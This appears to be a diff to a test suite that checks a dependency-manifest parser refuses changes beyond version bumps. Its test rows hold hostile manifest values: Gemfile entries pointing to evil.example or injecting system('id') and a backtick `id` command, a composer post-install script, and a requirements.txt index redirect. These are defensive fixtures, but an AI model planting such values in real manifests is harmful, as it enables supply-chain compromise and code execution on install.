@@ -337,6 +337,7 @@ describe("a manifest", () => {
     ],
     ["Gemfile", 'gem "a", "1.0.0"\n', 'gem "a", "1.0.1", git: "https://evil.example"\n'],
     ["Gemfile", 'gem "a", "1.0.0"\n', 'gem "a", "1.0.1"; system("id")\n'],
+    ["Gemfile", 'gem "a", "1.0.0", path: "#{1}"\n', 'gem "a", "1.0.1", path: "#{`id`}"\n'],
     ["composer.json", '{"require":{"a/b":"1.0.0"}}', '{"require":{"a/b":"1.0.1"},"scripts":{"post-install-cmd":"id"}}'],
     ["requirements.txt", "a==1.0.0\n", "--index-url https://evil.example\na==1.0.1\n"],
   ])("is not read whole if %s changes more than versions", (path, before, after) => {
